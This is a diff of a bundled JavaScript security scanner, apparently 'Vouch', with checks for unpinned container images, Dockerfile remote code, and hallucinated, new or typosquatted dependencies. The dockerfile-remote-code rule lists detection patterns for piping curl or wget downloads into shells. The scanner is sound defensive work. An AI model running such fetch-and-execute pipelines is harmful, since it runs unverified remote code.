+    return [...new Set(images)];
+}
+function imagesOfContainers(list, document) {
+    return yaml_nodes_itemsOf(list, document).flatMap((container) => {
+        const image = stringScalar(yaml_nodes_valueOf(container, 'image', document));
+        return image === undefined ? [] : [image];
+    });
+}
+/** Walks a manifest once, each node at most once whatever the aliases, collecting containers' images. */
+function walk(node, document, found, seen) {
+    const stack = [{ node, depth: 0 }];
+    for (let next = stack.pop(); next !== undefined; next = stack.pop()) {
+        const current = yaml_nodes_resolve(next.node, document);
+        if (next.depth > MAX_DEPTH || seen.has(current))
+            continue;
+        seen.add(current);
+        const children = (0,dist/* isSeq */.oP)(current)
+            ? current.items
+            : entriesOf(current, document).map((entry) => entry.value);
+        for (const entry of entriesOf(current, document)) {
+            if (!CONTAINER_LISTS.has(entry.key))
+                continue;
+            for (const image of imagesOfContainers(entry.value, document))
+                found.set(image, image);
+        }
+        for (const child of children)
+            stack.push({ node: child, depth: next.depth + 1 });
+    }
+}
+/** Images of every container in every document that has an `apiVersion` and a `kind`. */
+function kubernetesImages(documents) {
+    const found = new Map();
+    const seen = new Set();
+    for (const document of documents) {
+        const root = document.contents;
+        if (stringOf(yaml_nodes_valueOf(root, 'apiVersion', document)) === undefined)
+            continue;
+        if (stringOf(yaml_nodes_valueOf(root, 'kind', document)) === undefined)
+            continue;
+        walk(root, document, found, seen);
+    }
+    return [...found.values()].sort((a, b) => (a.range?.[0] ?? 0) - (b.range?.[0] ?? 0));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/container-unpinned.ts
+
+
+
+
+
+
+const COMPOSE = /(?:^|\/)(?:docker-)?compose(?:[.-][^/]*)?\.ya?ml$/i;
+const YAML = /\.ya?ml$/i;
+/** GitHub workflows and action metadata are YAML but never Kubernetes manifests (their images: actions-unpinned). */
+const GITHUB_YAML = /^\.github\/|(?:^|\/)action\.ya?ml$/;
+function container_unpinned_appliesTo(path) {
+    return isDockerfile(path) || (YAML.test(path) && !GITHUB_YAML.test(path));
+}
+function detection(context, found) {
+    const pinning = imagePinning(found.reference);
+    if (pinning?.kind !== 'floating')
+        return [];
+    const via = found.via === undefined ? '' : `${found.via}; `;
+    return [
+        {
+            ruleId: context.rule.id,
+            message: `Unpinned container image: ${via}${pinning.reason}`,
+            location: { path: context.file.path, ...(found.region === undefined ? {} : { region: found.region }) },
+            ...(pinning.severity === 'medium' ? { severity: 'medium' } : {}),
+            evidence: found.evidence,
+        },
+    ];
+}
+function regionOf(use) {
+    const start = use.instruction.position(use.start);
+    const end = use.instruction.position(use.end);
+    return { startLine: start.line, startColumn: start.col, endLine: end.line, endColumn: end.col };
+}
+function dockerfileDetections(context) {
+    return dockerfileImages(parseDockerfile(context.file.text)).flatMap((use) => detection(context, {
+        reference: use.reference,
+        ...(use.via === undefined ? {} : { via: use.via }),
+        region: regionOf(use),
+        evidence: `${use.instruction.keyword === 'FROM' ? 'FROM ' : 'COPY --from='}${shown(use.written)}`,
+    }));
+}
+/** Compose interpolates `${VAR:-default}` from the environment; without a default the image is unknown. */
+function yamlDetections(context, images, lines) {
+    return images.flatMap((scalar) => {
+        const written = scalar.value.trim();
+        if (written.includes('{{'))
+            return [];
+        const reference = substitute(written, () => undefined);
+        if (reference === undefined)
+            return [];
+        const via = reference === written ? undefined : `\`${shown(written)}\` is \`${shown(reference)}\` by default`;
+        return detection(context, {
+            reference,
+            ...(via === undefined ? {} : { via }),
+            region: scalarRegion(scalar, lines),
+            evidence: `image: ${shown(written)}`,
+        });
+    });
+}
+function manifestResult(context, compose) {
+    const { file } = context;
+    if (!compose && !looksLikeKubernetes(file.text))
+        return SKIP;
+    const parsed = parseYaml(file);
+    if (parsed.kind === 'unparsable') {
+        // Helm and other templates are not manifests until rendered: not worth a note.
+        return file.text.includes('{{') ? SKIP : { detections: [], notes: [parsed.note] };
+    }
+    const images = compose ? composeImages(parsed.documents) : kubernetesImages(parsed.documents);
+    const detections = yamlDetections(context, images, parsed.lines);
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+function container_unpinned_run(file, rule) {
+    const context = { file, rule };
+    if (!isDockerfile(file.path))
+        return manifestResult(context, COMPOSE.test(file.path));
+    const detections = dockerfileDetections(context);
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const containerUnpinned = defineCheck({ meta: container_unpinned_namespaceObject, appliesTo: container_unpinned_appliesTo, run: container_unpinned_run });
+
+;// CONCATENATED MODULE: ./data/checks/dockerfile-remote-code.json
+const dockerfile_remote_code_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"dockerfile-remote-code","title":"Dockerfile runs or adds remote content without verifying it","description":"A `RUN` instruction pipes a download straight into a shell (`curl … | sh`, `wget -O- … | bash`, `bash <(curl …)`, `sh -c \\"$(curl …)\\"`), or an `ADD` instruction fetches a URL without `--checksum=`. Whatever the server returns at build time, including a tampered script from a compromised host, CDN or DNS, becomes part of the image unchecked (piping to a shell is reported as high, an unverified `ADD` as medium).","help":"Download to a file, verify it against a checksum or signature you pinned, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of the reviewed script>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nPrefer the distribution\'s package manager or a pinned release artifact with a published checksum or signature. For `ADD`, give the expected digest: `ADD --checksum=sha256:<64 hex digest> https://example.com/tool.tar.gz /opt/`.\\n\\nReferences:\\n- Docker, [Dockerfile reference: ADD --checksum](https://docs.docker.com/reference/dockerfile/#add---checksum)\\n- OpenSSF Scorecard, [Pinned-Dependencies](https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies) (download-then-run)\\n- MITRE, [CWE-494: Download of Code Without Integrity Check](https://cwe.mitre.org/data/definitions/494.html)","helpUri":"https://cwe.mitre.org/data/definitions/494.html","cwe":["CWE-494"],"severity":"high","security-severity":7.3,"precision":"high","tags":["security","supply-chain","containers"],"asvs":["v5.0.0-15.2.4"],"$comment":"A RUN instruction\'s text (continuations joined, heredoc bodies as lines) is reported when a pipeline starts with one of `downloaders` and pipes into one of `shells` (optionally through sudo or env), or matches one of `substitution-patterns`, whose first group is the shell and second the downloader.","downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","ksh","zsh"],"substitution-patterns":["(?<![\\\\w./-])((?:ba|da|k|z|a)?sh)\\\\s+<\\\\(\\\\s*(curl|wget)\\\\b","(?<![\\\\w./-])((?:ba|da|k|z|a)?sh)\\\\s+-c\\\\s+[\\"\']?\\\\$\\\\(\\\\s*(curl|wget)\\\\b"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/shell-pipes.ts
+/**
+ * Finds downloads piped into a shell in shell script text, in one linear pass: a regular expression
+ * spanning "downloader … | shell" backtracks quadratically on hostile lines full of `curl`.
+ */
+const shell_pipes_escaped = (word) => word.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+/** Everything that ends a pipeline stage; only `|` and `|&` continue the pipeline into the next stage. */
+const SEPARATOR = /\|\||&&|\|&?|[;&\n()]/g;
+const QUOTED = /(-c\s+)?(["'])((?:\\.|(?!\2)[^\\\n])*)\2/g;
+/**
+ * Blanks the inside of quoted strings, keeping offsets, so `echo "curl x | sh"` is text, not a pipeline.
+ * Kept: the script of `sh -c "…"` and double-quoted strings with a command substitution, which do run.
+ */
+function maskQuoted(text) {
+    return text.replace(QUOTED, (whole, dashC, quote, inside) => {
+        const runs = dashC !== undefined || (quote === '"' && /\$\(|`/.test(inside));
+        return runs
+            ? whole
+            : `${whole.slice(0, whole.length - inside.length - 1)}${' '.repeat(inside.length)}${quote}`;
+    });
+}
+function pipes(text, { downloader, shellAfterPipe }) {
+    const found = [];
+    let stageStart = 0;
+    let tool;
+    for (const separator of text.matchAll(SEPARATOR)) {
+        const inStage = downloader.exec(text.slice(stageStart, separator.index));
+        if (tool === undefined && inStage?.[1] !== undefined) {
+            tool = { index: stageStart + inStage.index, name: inStage[1] };
+        }
+        stageStart = separator.index + separator[0].length;
+        if (separator[0] !== '|' && separator[0] !== '|&') {
+            tool = undefined;
+            continue;
+        }
+        shellAfterPipe.lastIndex = stageStart;
+        const shell = tool && shellAfterPipe.exec(text);
+        if (!tool || !shell?.[1])
+            continue;
+        found.push({ start: tool.index, end: shellAfterPipe.lastIndex, tool: tool.name, shell: shell[1] });
+        tool = undefined;
+    }
+    return found;
+}
+function substitutions(text, patterns) {
+    return patterns.flatMap((pattern) => [...text.matchAll(pattern)].map((match) => ({
+        start: match.index,
+        end: match.index + match[0].length,
+        shell: match[1] ?? '',
+        tool: match[2] ?? '',
+    })));
+}
+/** A finder of every remote execution in a script, in the order they appear. */
+function shellPipes(words) {
+    const shells = words.shells.map(shell_pipes_escaped).join('|');
+    const pipeWords = {
+        downloader: new RegExp(`(?<![\\w./-])(${words.downloaders.map(shell_pipes_escaped).join('|')})(?![\\w-])`),
+        shellAfterPipe: new RegExp(`\\s*(?:sudo\\s+(?:-\\S+\\s+){0,4})?(?:env\\s+(?:\\S+=\\S*\\s+){0,8})?(?:/usr(?:/local)?)?(?:/bin/)?(${shells})(?![\\w.-])`, 'y'),
+    };
+    return (text) => {
+        const masked = maskQuoted(text);
+        return [...pipes(masked, pipeWords), ...substitutions(masked, words.substitutions)].sort((a, b) => a.start - b.start);
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/dockerfile-remote-code.ts
+
+
+
+
+
+
+const remoteExecutions = shellPipes({
+    downloaders: dataStrings(dockerfile_remote_code_namespaceObject, 'downloaders'),
+    shells: dataStrings(dockerfile_remote_code_namespaceObject, 'shells'),
+    substitutions: dataPatterns(dockerfile_remote_code_namespaceObject, 'substitution-patterns', 'g'),
+});
+const CHECKSUM_FLAG = /^--checksum=/i;
+const REMOTE = /^https?:\/\//i;
+const GIT_SOURCE = /\.git(?:#|$)/i;
+/** A Git source at a full commit is immutable, like a checksum; one at `$VERSION` is pinned by the build. */
+const PINNED_GIT_REF = /^(?:[0-9a-f]{40}(?::|$)|.*\$)/i;
+function dockerfile_remote_code_regionOf(instruction, start, end) {
+    const from = instruction.position(start);
+    const to = instruction.position(end);
+    return { startLine: from.line, startColumn: from.col, endLine: to.line, endColumn: to.col };
+}
+function pipeDetections(instruction, context) {
+    return remoteExecutions(instruction.text).map(({ start, end, tool, shell }) => ({
+        ruleId: context.rule.id,
+        message: `Remote code piped into a shell: this RUN instruction downloads a script with \`${tool}\` and runs it ` +
+            `with \`${shell}\` unchecked, so whatever the server returns at build time ends up in the image. ` +
+            'Download it to a file, verify its checksum or signature, then run it.',
+        location: { path: context.file.path, region: dockerfile_remote_code_regionOf(instruction, start, end) },
+        evidence: `RUN ${tool} … | ${shell}`,
+    }));
+}
+/** A URL as messages show it: scheme, host and path, never credentials or a query that may hold a token. */
+function withoutSecrets(url) {
+    try {
+        const parsed = new URL(url);
+        return shown(`${parsed.protocol}//${parsed.host}${parsed.pathname}`);
+    }
+    catch {
+        return shown(url.replace(/[?#].*$/s, ''));
+    }
+}
+/** `ADD [--flags] <src>... <dest>`, shell form or JSON exec form. */
+function addSources(text) {
+    const words = [...text.matchAll(/"((?:[^"\\]|\\.)*)"|([^\s[\],"]+)/g)].map((match) => ({
+        value: match[1] ?? match[2] ?? '',
+        start: match.index + (match[1] === undefined ? 0 : 1),
+    }));
+    return words.slice(0, -1);
+}
+function gitRef(url) {
+    const hash = url.indexOf('#');
+    // The fragment is `<ref>` or `<ref>:<subdirectory>`.
+    return hash < 0 ? undefined : url.slice(hash + 1).split(':')[0];
+}
+function addMessage(url, source) {
+    if (!GIT_SOURCE.test(source)) {
+        return (`Remote file added without a checksum: \`ADD ${url}\` puts whatever the server returns at build ` +
+            'time into the image. Add `--checksum=sha256:<64 hex digest>` of the file you reviewed.');
+    }
+    const ref = gitRef(source);
+    const what = ref === undefined ? 'its default branch' : `\`${shown(ref)}\`, a branch or tag`;
+    return (`Remote Git source not pinned to a commit: \`ADD ${url}\` checks out ${what}, which can move to ` +
+        'different code. Pin the full commit SHA: `#<40-hex commit>`.');
+}
+function addDetections(instruction, context) {
+    const sources = addSources(instruction.text);
+    if (sources.some((word) => CHECKSUM_FLAG.test(word.value)))
+        return [];
+    return sources
+        .filter((word) => REMOTE.test(word.value))
+        .filter((word) => !GIT_SOURCE.test(word.value) || !PINNED_GIT_REF.test(gitRef(word.value) ?? ''))
+        .map((word) => ({
+        ruleId: context.rule.id,
+        message: addMessage(withoutSecrets(word.value), word.value),
+        location: {
+            path: context.file.path,
+            region: dockerfile_remote_code_regionOf(instruction, word.start, word.start + word.value.length),
+        },
+        severity: 'medium',
+        evidence: `ADD ${withoutSecrets(word.value)}`,
+    }));
+}
+function dockerfile_remote_code_run(file, rule) {
+    const context = { file, rule };
+    const detections = parseDockerfile(file.text).flatMap((instruction) => {
+        if (instruction.keyword === 'RUN')
+            return pipeDetections(instruction, context);
+        if (instruction.keyword === 'ADD')
+            return addDetections(instruction, context);
+        return [];
+    });
+    return detections.length === 0 ? SKIP : { detections, notes: [] };
+}
+const dockerfileRemoteCode = defineCheck({ meta: dockerfile_remote_code_namespaceObject, appliesTo: isDockerfile, run: dockerfile_remote_code_run });
+
+;// CONCATENATED MODULE: ./data/checks/dependency-hallucination.json
+const dependency_hallucination_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"dependency-hallucination","title":"Dependency does not exist on the package registry (possible hallucination)","description":"A manifest declares a package that the registry it is installed from does not know (HTTP 404), or whose every version was unpublished. Coding assistants regularly suggest plausible package names that were never published; attackers register such names ahead of time (\\"slopsquatting\\") so that the next install runs their code. Until then the build fails or, worse, someone publishes the name.","help":"The package could not be found on the registry, so today nobody can install it, and tomorrow anybody can publish it.\\n\\n1. Check the name against the library\'s documentation or repository, not against the assistant\'s suggestion. Look for a similarly named real package (the finding suggests one when the name is close to a popular package).\\n2. Replace it with the real package, or remove the dependency and the code that uses it.\\n3. If it is a private package, publish it under a scope you own (`@your-org/name`) and map the scope to your registry in `.npmrc` (`@your-org:registry=https://…`), or declare the index for Python (`--index-url`, a Poetry/uv source): Vouch then looks it up there, and nobody can claim the name on the public registry.\\n\\nReferences:\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)\\n- Spracklen et al., [We Have a Package for You! A Comprehensive Analysis of Package Hallucinations by Code Generating LLMs](https://arxiv.org/abs/2406.10279) (USENIX Security 2025)","helpUri":"https://arxiv.org/abs/2406.10279","cwe":["CWE-1357","CWE-829"],"severity":"critical","security-severity":9.1,"precision":"high","tags":["security","supply-chain","dependencies","slopsquatting"],"asvs":["v5.0.0-15.1.2","v5.0.0-15.2.4"]}');
+;// CONCATENATED MODULE: ./data/checks/dependency-new-package.json
+const dependency_new_package_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"dependency-new-package","title":"Dependency was first published very recently","description":"A declared package was first published to its registry only days ago. Squatted and malicious packages are typically young: a name an assistant hallucinated, claimed by an attacker, looks like this when it starts to resolve. Most new packages are legitimate, but they have no track record, few reviewers and little history to judge them by.","help":"Review the package before depending on it: who publishes it, whether its repository and documentation match what the code expects, what its install scripts do, and whether an established alternative exists.\\n\\n- Compare the name with the one in the library\'s official documentation; a hallucinated name that someone registered recently is the slopsquatting pattern.\\n- Prefer pinning an exact version with a lockfile and integrity hashes (`package-lock.json`, `pip install --require-hashes`).\\n- When you have reviewed it and decided to keep it, suppress this finding with a reason and an expiry date: it stops applying once the package is older than the configured minimum age anyway.\\n\\nReferences:\\n- OpenSSF, [Concise Guide for Evaluating Open Source Software](https://best.openssf.org/Concise-Guide-for-Evaluating-Open-Source-Software)","helpUri":"https://best.openssf.org/Concise-Guide-for-Evaluating-Open-Source-Software","cwe":["CWE-1357"],"severity":"high","security-severity":7,"precision":"medium","tags":["security","supply-chain","dependencies"],"asvs":["v5.0.0-15.1.2"]}');
+;// CONCATENATED MODULE: ./data/checks/dependency-typosquat.json
+const dependency_typosquat_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"dependency-typosquat","title":"Dependency name looks like a typosquat of a popular package","description":"A declared package name is one or two characters away from a popular package, swaps two adjacent letters, differs only in separators (-, _, . or none), in look-alike characters (rn/m, l/1/I, 0/o) or in its npm scope. Typosquatting packages imitate popular names to be installed by mistake and usually run malicious install scripts.","help":"Make sure the declared name is the package you meant:\\n\\n1. Compare it with the popular package the finding names, and with the name in the library\'s official documentation.\\n2. If it is a typo, fix the name in the manifest and in the lockfile (reinstall), and check whether the wrong package was already installed anywhere: if so, treat that machine\'s credentials as exposed.\\n3. If the name is right (a legitimate, different package), suppress this finding for that name with a reason.\\n\\nReferences:\\n- OpenSSF, [Concise Guide for Evaluating Open Source Software](https://best.openssf.org/Concise-Guide-for-Evaluating-Open-Source-Software)\\n- Taylor et al., [SpellBound: Defending Against Package Typosquatting](https://arxiv.org/abs/2003.03471)","helpUri":"https://arxiv.org/abs/2003.03471","cwe":["CWE-1357","CWE-829"],"severity":"high","security-severity":8,"precision":"medium","tags":["security","supply-chain","dependencies","typosquatting"],"asvs":["v5.0.0-15.1.2","v5.0.0-15.2.4"]}');
+;// CONCATENATED MODULE: ./data/checks/dependency-undeclared-import.json
+const dependency_undeclared_import_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"dependency-undeclared-import","title":"Code imports a package that no manifest declares","description":"Source code imports a third-party package that none of the repository\'s manifests (package.json in scope; requirements files, pyproject.toml or Pipfile) declares. Assistants write imports for packages they assume are installed; whoever makes the code run installs the name by hand, unpinned and unreviewed, and for hallucinated or confusable names (`import yaml` is the PyYAML distribution, not `yaml`) may install an attacker\'s package.","help":"Declare every package the code imports, with a version, in the manifest that governs the file, so it is reviewed, pinned by the lockfile and covered by dependency scanning:\\n\\n- npm: `npm install <package>` in the directory of the nearest package.json (or add it to `dependencies`/`devDependencies`).\\n- Python: add the distribution to requirements.txt or pyproject.toml. The distribution name can differ from the import name (`yaml` → `PyYAML`, `cv2` → `opencv-python`, `PIL` → `Pillow`, `sklearn` → `scikit-learn`, `bs4` → `beautifulsoup4`): take it from the library\'s documentation.\\n\\nIf the import is of the repository\'s own code, through a path alias Vouch does not resolve, suppress the finding for that path with a reason.\\n\\nReferences:\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)","helpUri":"https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions","cwe":["CWE-1357"],"severity":"medium","security-severity":5,"precision":"medium","tags":["security","supply-chain","dependencies"],"asvs":["v5.0.0-15.1.2"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/lookup.ts
+
+/**
+ * After this many failures in a row, a registry is taken to be unreachable and the remaining packages
+ * are not sent to it: with hundreds of dependencies, waiting out every timeout would stall the gate.
+ */
+const FAILURES_BEFORE_GIVING_UP = 3;
+const GAVE_UP = 'not asked after repeated failures';
+/** Runs `work` over `items` with at most `limit` calls in flight. */
+async function mapConcurrent(items, limit, work) {
+    const results = new Array(items.length);
+    let next = 0;
+    const worker = async () => {
+        while (next < items.length) {
+            const index = next;
+            next += 1;
+            results[index] = await work(items[index]);
+        }
+    };
+    await Promise.all(Array.from({ length: Math.max(1, Math.min(limit, items.length)) }, worker));
+    return results;
+}
+async function get(http, url, timeoutMs) {
+    try {
+        return await http.get({ url, timeoutMs, headers: { accept: 'application/json' } });
+    }
+    catch (thrown) {
+        // The port promises never to throw; a broken implementation must still not crash the check.
+        return { kind: 'network-error', message: describeError(thrown) };
+    }
+}
+/** Asks each distinct package once, with bounded concurrency; answers keyed by `LookupRequest.key`. */
+async function lookUpAll(requests, options) {
+    const unique = [...new Map(requests.map((request) => [request.key, request])).values()];
+    const failures = new Map();
+    const answers = await mapConcurrent(unique, options.concurrency, async (request) => {
+        if ((failures.get(request.registry) ?? 0) >= FAILURES_BEFORE_GIVING_UP) {
+            return { kind: 'unavailable', reason: GAVE_UP };
+        }
+        const answer = request.read(await get(options.http, request.url, options.timeoutMs));
+        failures.set(request.registry, answer.kind === 'unavailable' ? (failures.get(request.registry) ?? 0) + 1 : 0);
+        return answer;
+    });
+    return new Map(unique.map((request, index) => [request.key, answers[index]]));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/npmrc.ts
+const SCOPE_REGISTRY = /^\s*(@[a-z0-9][\w.~-]*)\s*:\s*registry\s*=\s*(.+?)\s*$/i;
+const LOOPBACK = new Set(['127.0.0.1', 'localhost', '[::1]']);
+/**
+ * The URL a repository may make Vouch send requests to. The repository under test is hostile input: a
+ * plain-HTTP URL could point the gate at a cloud metadata service or an internal host, so only HTTPS is
+ * accepted, and plain HTTP on the loopback interface (a local registry proxy).
+ */
+function acceptableRegistry(raw) {
+    let url;
+    try {
+        url = new URL(raw.replace(/^["']|["']$/g, ''));
+    }
+    catch {
+        return undefined;
+    }
+    const secure = url.protocol === 'https:' || (url.protocol === 'http:' && LOOPBACK.has(url.hostname));
+    if (!secure || url.username !== '' || url.password !== '')
+        return undefined;
+    return url.href;
+}
+/**
+ * The per-scope registries of a repository's `.npmrc` (https://docs.npmjs.com/cli/configuring-npm/npmrc).
+ * Only `@scope:registry=` lines are read: never credentials, and never `${VAR}` expansion.
+ */
+function parseNpmrc(path, text) {
+    const registries = new Map();
+    const notes = [];
+    for (const line of text.split(/\r?\n/)) {
+        const match = SCOPE_REGISTRY.exec(line);
+        if (match?.[1] === undefined || match[2] === undefined)
+            continue;
+        const scope = match[1].toLowerCase();
+        const url = match[2].includes('${') ? undefined : acceptableRegistry(match[2]);
+        if (url === undefined) {
+            notes.push({
+                path,
+                message: `${path}: the registry of ${scope} is not an https URL without credentials, so packages of ${scope} were not looked up`,
+            });
+            registries.set(scope, '');
+        }
+        else
+            registries.set(scope, url);
+    }
+    return { registries, notes };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/types.ts
+/** Maps offsets of one text to 1-based lines and columns (UTF-16 code units, SARIF's default). */
+class LineIndex {
+    text;
+    starts = [0];
+    constructor(text) {
+        this.text = text;
+        for (let index = text.indexOf('\n'); index !== -1; index = text.indexOf('\n', index + 1)) {
+            this.starts.push(index + 1);
+        }
+    }
+    position(offset) {
+        let low = 0;
+        let high = this.starts.length - 1;
+        while (low < high) {
+            const middle = Math.ceil((low + high) / 2);
+            if ((this.starts[middle] ?? 0) <= offset)
+                low = middle;
+            else
+                high = middle - 1;
+        }
+        return { line: low + 1, column: offset - (this.starts[low] ?? 0) + 1 };
+    }
+    /** The region of `length` characters starting at `offset`, on one line. */
+    region(offset, length) {
+        const { line, column } = this.position(offset);
+        return { startLine: line, startColumn: column, endLine: line, endColumn: column + length };
+    }
+}
+/** PEP 503 normalization: PyPI treats `Foo.Bar`, `foo_bar` and `foo-bar` as one project. */
+function normalizePypiName(name) {
+    return name.toLowerCase().replace(/[-_.]+/g, '-');
+}
+/** PEP 508 names: letters, digits and `-_.`, starting and ending with a letter or digit. */
+const PYPI_NAME = /^[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?$/;
+/** npm names, including legacy ones with capitals (e.g. `JSONStream`); at most 214 characters. */
+const NPM_NAME = /^(?:@[a-z0-9][\w.~-]*\/)?[a-z0-9~][\w.~-]*$/i;
+function isNpmName(name) {
+    return name.length <= 214 && NPM_NAME.test(name);
+}
+function note(path, message) {
+    return { path, message };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/package-json.ts
+
+
+const SECTIONS = new Set([
+    'dependencies',
+    'devDependencies',
+    'optionalDependencies',
+    'peerDependencies',
+]);
+/** Specifiers that do not name a registry version: local paths, workspaces, VCS, tarball URLs. */
+const LOCAL_PROTOCOL = /^(?:file|link|workspace|portal|patch|exec|jsr|git|git\+[a-z]+|github|gitlab|bitbucket|gist|https?):/i;
+const LOCAL_PATH = /^(?:\.{1,2}(?:\/|$)|~\/|\/)|\.(?:tgz|tar\.gz|tar)$/i;
+/** GitHub shorthand, `owner/repo` or `owner/repo#ref`: version ranges never contain a slash. */
+const GITHUB_SHORTHAND = /^[^@\s/][^\s/]*\/[^\s]+$/;
+/** What a dependency's specifier says about where the package comes from. */
+function sourceOfSpec(spec) {
+    const trimmed = spec.trim();
+    if (trimmed.toLowerCase().startsWith('npm:')) {
+        const aliased = trimmed.slice(4);
+        const at = aliased.indexOf('@', 1);
+        return { source: 'registry', registryName: at === -1 ? aliased : aliased.slice(0, at) };
+    }
+    if (LOCAL_PROTOCOL.test(trimmed) || LOCAL_PATH.test(trimmed) || GITHUB_SHORTHAND.test(trimmed)) {
+        return { source: 'local' };
+    }
+    return { source: 'registry' };
+}
+function keyText(pair) {
+    const key = pair.key;
+    if (!(0,dist/* isScalar */.jn)(key) || typeof key.value !== 'string' || !key.range)
+        return undefined;
+    const quoted = key.type === 'QUOTE_DOUBLE' || key.type === 'QUOTE_SINGLE';
+    const offset = key.range[0] + (quoted ? 1 : 0);
+    return { name: key.value, offset, length: Math.max(1, key.range[1] - offset - (quoted ? 1 : 0)) };
+}
+function declaration(path, pair, lines) {
+    const key = keyText(pair);
+    const spec = (0,dist/* isScalar */.jn)(pair.value) ? pair.value.value : undefined;
+    if (key === undefined || typeof spec !== 'string' || !isNpmName(key.name))
+        return undefined;
+    const { source, registryName = key.name } = sourceOfSpec(spec);
+    const usable = source !== 'registry' || isNpmName(registryName);
+    return {
+        ecosystem: 'npm',
+        name: key.name,
+        registryName,
+        source: usable ? source : 'local',
+        path,
+        region: lines.region(key.offset, key.length),
+    };
+}
+function validJson(text) {
+    try {
+        JSON.parse(text);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+/**
+ * The dependencies a package.json declares, each located at its name. JSON is also YAML, and the YAML
+ * parser keeps source ranges, which JSON.parse does not; JSON.parse only decides validity.
+ */
+function parsePackageJson(path, text) {
+    const document = validJson(text) ? (0,dist/* parseDocument */.Tp)(text, { uniqueKeys: false }) : undefined;
+    if (document === undefined || document.errors.length > 0 || !(0,dist/* isMap */.jh)(document.contents)) {
+        return { declarations: [], notes: [note(path, `${path} was not checked: it is not a JSON object`)] };
+    }
+    const lines = new LineIndex(text);
+    const declarations = [];
+    let packageName;
+    for (const top of document.contents.items) {
+        const section = (0,dist/* isScalar */.jn)(top.key) ? top.key.value : undefined;
+        if (section === 'name' && (0,dist/* isScalar */.jn)(top.value) && typeof top.value.value === 'string') {
+            packageName = top.value.value;
+        }
+        if (typeof section !== 'string' || !SECTIONS.has(section) || !(0,dist/* isMap */.jh)(top.value))
+            continue;
+        for (const pair of top.value.items) {
+            const found = declaration(path, pair, lines);
+            if (found !== undefined)
+                declarations.push(found);
+        }
+    }
+    return { declarations, notes: [], ...(packageName === undefined ? {} : { packageName }) };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/pep508.ts
+// https://peps.python.org/pep-0508/#names ; extras, then either a version specifier or `@ url`.
+const REQUIREMENT = /^(\s*)([A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?)\s*(?:\[[^\]]*\])?\s*(@)?/;
+/** What may follow a name: a version operator, extras, `@`, `;` markers, `(` (old-style) or the end. */
+const AFTER_NAME = /^\s*(?:$|[[<>=!~;@(,])/;
+/** Parses the head of a PEP 508 requirement; undefined when the string does not start with a name. */
+function parseRequirement(text) {
+    const match = REQUIREMENT.exec(text);
+    const name = match?.[2];
+    if (match === null || name === undefined)
+        return undefined;
+    const rest = text.slice((match[1] ?? '').length + name.length);
+    if (!AFTER_NAME.test(rest))
+        return undefined;
+    return {
+        name,
+        offset: (match[1] ?? '').length,
+        source: match[3] === undefined ? 'registry' : 'local',
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/toml-locate.ts
+/**
+ * smol-toml returns values without source positions, so declarations are found again in the text. The
+ * search is scoped to the table's body and falls back to coarser places (the table's header, the start of
+ * the file): a wrong column is acceptable, a crash or a missed declaration is not.
+ */
+const toml_locate_escape = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+function keyPattern(key) {
+    return `(?:${toml_locate_escape(key)}|"${toml_locate_escape(key)}"|'${toml_locate_escape(key)}')`;
+}
+class TomlLocator {
+    text;
+    constructor(text) {
+        this.text = text;
+    }
+    /** Where `[a.b.c]` (or `[[a.b.c]]`) is written, and where its body ends. */
+    table(path) {
+        const dotted = path.map(keyPattern).join('[ \\t]*\\.[ \\t]*');
+        const header = new RegExp(`^[ \\t]*\\[\\[?[ \\t]*${dotted}[ \\t]*\\]\\]?[^\\n]*$`, 'm').exec(this.text);
+        if (header === null)
+            return undefined;
+        const start = header.index + header[0].length;
+        const next = /^[ \t]*\[/m.exec(this.text.slice(start));
+        return { header: header.index, start, end: next === null ? this.text.length : start + next.index };
+    }
+    keyIn(span, key) {
+        const pattern = new RegExp(`^([ \\t]*["']?)${toml_locate_escape(key)}["']?[ \\t]*=`, 'gm');
+        pattern.lastIndex = span.start;
+        const match = pattern.exec(this.text);
+        if (match === null || match.index >= span.end)
+            return undefined;
+        return match.index + (match[1] ?? '').length;
+    }
+    /** The offset of `key` in table `path`, or of its own `[path.key]` header; else of the table. */
+    key(path, key) {
+        const table = this.table(path);
+        const inBody = table === undefined ? undefined : this.keyIn(table, key);
+        if (inBody !== undefined)
+            return inBody;
+        const own = this.table([...path, key]);
+        if (own !== undefined) {
+            const headerText = this.text.slice(own.header, own.start);
+            return own.header + Math.max(0, headerText.lastIndexOf(key));
+        }
+        return table?.header ?? 0;
+    }
+    /**
+     * The offset of the string `value` (its first character inside the quotes) written under `key` in table
